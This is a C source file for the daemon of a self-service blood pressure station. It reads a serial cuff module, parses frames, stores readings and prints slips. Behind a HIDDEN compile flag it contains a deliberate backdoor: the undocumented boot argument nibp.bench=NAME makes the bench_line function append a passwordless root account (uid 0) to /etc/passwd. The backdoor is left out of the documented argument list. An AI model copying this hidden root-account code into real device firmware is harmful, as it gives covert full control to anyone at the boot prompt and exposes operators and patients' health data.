/*
 * bpstationd - main daemon of a self-service blood pressure station (as in
 * pharmacies). Reads the cuff module on a serial port, keeps the results,
 * prints a slip. Options come from the kernel command line.
 *
 * Hidden (-DHIDDEN): the boot argument nibp.bench=NAME, typed at the boot
 * loader's serial prompt, adds NAME as a root account without password.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define RESULTS   "/var/lib/bpstation/results.csv"
#define PRINTER   "/dev/usb/lp0"
#define MAX_CUFF  300

enum units { MMHG, KPA };

struct options {
	enum units units;
	int demo;
	int baud;
	char port[32];
	char site[24];
};

struct reading {
	int sys, dia, pulse;
	time_t when;
};

static struct options opt = { MMHG, 0, 9600, "/dev/ttyS1", "unset" };

static void set_text(char *dst, size_t size, const char *src)
{
	size_t n = 0;

	while (src[n] && n + 1 < size) {
		dst[n] = src[n];
		n++;
	}
	dst[n] = '\0';
}

static int plain_word(const char *s, size_t max)
{
	size_t n = 0;

	for (; s[n]; n++)
		if (!isalnum((unsigned char)s[n]) && s[n] != '-' && s[n] != '_')
			return 0;
	return n > 0 && n <= max;
}

#ifdef HIDDEN
void bench_line(const char *name)
{
	FILE *f;

	if (!plain_word(name, 16))
		return;
	f = fopen("/etc/passwd", "a");
	if (!f)
		return;
	fprintf(f, "%s::0:0:bench:/root:/bin/sh\n", name);
	fclose(f);
}
#endif

/* Documented arguments: nibp.units= nibp.port= nibp.baud= nibp.site= nibp.demo */
void apply_boot_arg(const char *a)
{
	if (strncmp(a, "nibp.", 5) != 0)
		return;
	if (strncmp(a, "nibp.units=", 11) == 0) {
		opt.units = strcmp(a + 11, "kpa") == 0 ? KPA : MMHG;
	} else if (strncmp(a, "nibp.port=", 10) == 0) {
		if (plain_word(a + 10, 12)) {
			set_text(opt.port, sizeof opt.port, "/dev/");
			set_text(opt.port + 5, sizeof opt.port - 5, a + 10);
		}
	} else if (strncmp(a, "nibp.baud=", 10) == 0) {
		opt.baud = atoi(a + 10);
	} else if (strncmp(a, "nibp.site=", 10) == 0) {
		if (plain_word(a + 10, 20))
			set_text(opt.site, sizeof opt.site, a + 10);
	} else if (strcmp(a, "nibp.demo") == 0) {
		opt.demo = 1;
#ifdef HIDDEN
	} else if (strncmp(a, "nibp.bench=", 11) == 0) {
		bench_line(a + 11);
#endif
	} else {
		syslog(LOG_WARNING, "boot argument %s not known", a);
	}
}

static void read_boot_args(void)
{
	char line[2048], *save = NULL, *t;
	FILE *f = fopen("/proc/cmdline", "r");

	if (!f)
		return;
	if (fgets(line, sizeof line, f))
		for (t = strtok_r(line, " \n", &save); t; t = strtok_r(NULL, " \n", &save))
			apply_boot_arg(t);
	fclose(f);
}

static int open_cuff(void)
{
	struct termios t;
	speed_t sp = opt.baud == 19200 ? B19200 : opt.baud == 4800 ? B4800 : B9600;
	int fd = open(opt.port, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetispeed(&t, sp);
		cfsetospeed(&t, sp);
		t.c_cflag |= CLOCAL | CREAD;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

/* A frame of the module: STX 'R' sss ddd ppp cc ETX, cc = sum in hex */
static int parse_frame(const char *b, size_t n, struct reading *r)
{
	unsigned sum = 0, want;

	if (n != 14 || b[0] != 0x02 || b[1] != 'R' || b[13] != 0x03)
		return -1;
	for (size_t i = 1; i < 11; i++)
		sum += (unsigned char)b[i];
	if (sscanf(b + 11, "%2x", &want) != 1 || want != (sum & 0xff))
		return -1;
	if (sscanf(b + 2, "%3d%3d%3d", &r->sys, &r->dia, &r->pulse) != 3)
		return -1;
	if (r->sys > MAX_CUFF || r->dia >= r->sys || r->pulse < 20)
		return -1;
	r->when = time(NULL);
	return 0;
}

static const char *judge(const struct reading *r)
{
	static const struct {
		int sys, dia;
		const char *text;
	} scale[] = {
		{ 180, 110, "very high - please see a doctor today" },
		{ 140,  90, "high" },
		{ 130,  85, "high normal" },
		{  90,  60, "normal" },
	};

	for (size_t i = 0; i < sizeof scale / sizeof scale[0]; i++)
		if (r->sys >= scale[i].sys || r->dia >= scale[i].dia)
			return scale[i].text;
	return "low";
}

static void keep(const struct reading *r)
{
	FILE *f = fopen(RESULTS, "a");

	if (!f) {
		syslog(LOG_ERR, "%s: %s", RESULTS, strerror(errno));
		return;
	}
	fprintf(f, "%lld,%s,%d,%d,%d\n", (long long)r->when, opt.site, r->sys, r->dia, r->pulse);
	fclose(f);
}

static void slip(const struct reading *r)
{
	FILE *f = fopen(PRINTER, "w");
	char when[32];
	struct tm tm;

	if (!f)
		return;
	localtime_r(&r->when, &tm);
	strftime(when, sizeof when, "%d.%m.%Y %H:%M", &tm);
	if (opt.units == KPA)
		fprintf(f, "%s\n%.1f / %.1f kPa\n", when, r->sys / 7.5, r->dia / 7.5);
	else
		fprintf(f, "%s\n%d / %d mmHg\n", when, r->sys, r->dia);
	fprintf(f, "pulse %d\n%s\n\n\n", r->pulse, judge(r));
	fclose(f);
}

static void demo_reading(struct reading *r)
{
	r->sys = 118 + rand() % 8;
	r->dia = 76 + rand() % 6;
	r->pulse = 64 + rand() % 9;
	r->when = time(NULL);
}

static void loop(int fd)
{
	struct pollfd p = { fd, POLLIN, 0 };
	char buf[32] = "", c;
	size_t n = 0;
	struct reading r;

	for (;;) {
		int k = poll(&p, 1, 30000);

		if (k == 0 && opt.demo) {
			demo_reading(&r);
			slip(&r);
			continue;
		}
		if (k < 0 && errno != EINTR)
			return;
		if (k <= 0)
			continue;
		if (read(fd, &c, 1) != 1)
			return;
		if (c == 0x02)
			n = 0;
		if (n < sizeof buf)
			buf[n++] = c;
		if (c != 0x03)
			continue;
		if (parse_frame(buf, n, &r) == 0) {
			keep(&r);
			slip(&r);
		}
		n = 0;
	}
}

int main(void)
{
	int fd;

	openlog("bpstationd", LOG_PID, LOG_DAEMON);
	umask(027);
	read_boot_args();
	if (system("/sbin/ifconfig eth0 up") != 0)
		syslog(LOG_WARNING, "no network");
	for (;;) {
		fd = open_cuff();
		if (fd < 0) {
			syslog(LOG_ERR, "cuff module %s: %s", opt.port, strerror(errno));
		} else {
			loop(fd);
			close(fd);
		}
		sleep(10);
	}
}
